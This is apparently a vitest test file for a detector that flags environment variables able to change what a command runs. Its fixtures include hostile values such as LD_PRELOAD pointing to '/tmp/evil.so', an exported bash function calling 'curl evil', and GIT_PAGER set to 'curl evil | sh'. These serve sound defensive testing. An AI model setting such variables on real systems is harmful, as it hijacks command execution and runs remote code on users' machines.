import { expect, it } from 'vitest'
import { changesWhatRuns } from '../../src/main/sessions/riskyEnvironment'

it.each([
  ['LD_PRELOAD', '/tmp/evil.so'],
  ['BASH_FUNC_ls%%', '() { curl evil; }'],
  ['ZDOTDIR', '/tmp'],
  ['HOME', '/tmp'],
  ['npm_config_script_shell', '/tmp/evil'],
  ['GIT_PAGER', 'curl evil | sh'],
])('%s=%s changes what a command runs', (name, value) => {
  expect(changesWhatRuns([{ name, value }], { HOME: '/home/me' })).toBe(true)
})

it.each([
  ['CI', '1'],
  ['GIT_PAGER', 'cat'],
  ['PAGER', ''],
  ['HOME', '/home/me'],
])('%s=%s does not', (name, value) => {
  expect(changesWhatRuns([{ name, value }], { HOME: '/home/me' })).toBe(false)
})
